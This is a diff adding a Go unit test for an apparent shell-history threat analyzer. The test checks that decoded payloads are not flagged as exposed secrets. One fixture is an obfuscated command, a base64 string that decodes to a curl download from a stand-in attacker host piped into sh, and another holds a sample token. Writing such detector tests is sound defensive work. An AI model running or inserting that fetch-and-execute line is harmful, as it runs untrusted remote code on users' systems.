@@ -0,0 +1,59 @@
+package semantic
+
+import (
+	"testing"
+
+	"terminal-history-analyzer/internal/lexer"
+	"terminal-history-analyzer/internal/models"
+	"terminal-history-analyzer/internal/parser"
+)
+
+// analyzeSession analiza un historial completo como lo hacen los handlers
+func analyzeSession(t *testing.T, analyzer *Analyzer, content string) []models.ThreatDetection {
+	t.Helper()
+	tokens, _ := lexer.NewLexer(content).Tokenize()
+	commands, _, _ := parser.NewParser(tokens).Parse()
+	analyzer.SetSource(content)
+	threats, _, _, _ := analyzer.AnalyzeWithFileSystem(commands)
+	return threats
+}
+
+// threatTypes cuenta las detecciones por tipo
+func threatTypes(threats []models.ThreatDetection) map[string]int {
+	types := make(map[string]int)
+	for _, threat := range threats {
+		types[threat.Type]++
+	}
+	return types
+}
+
+func TestDecodedPayloadIsNotASecret(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		secrets int
+	}{
+		{
+			name:    "base64 ejecutado con sh",
+			content: "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS94IHwgc2g= | base64 -d | sh",
+		},
+		{
+			name:    "secreto sin decodificar",
+			content: "deploy --token Zx9Kq2Lm8Vb4Nc7Tp3Rw6Yh1",
+			secrets: 1,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			analyzer := NewAnalyzer()
+			types := threatTypes(analyzeSession(t, analyzer, tt.content))
+			if got := types["credential_exposure"]; got != tt.secrets {
+				t.Errorf("credential_exposure = %d, se esperaba %d (%v)", got, tt.secrets, types)
+			}
+			if len(analyzer.Secrets()) != tt.secrets {
+				t.Errorf("Secrets() = %v", analyzer.Secrets())
+			}
+		})
+	}
+}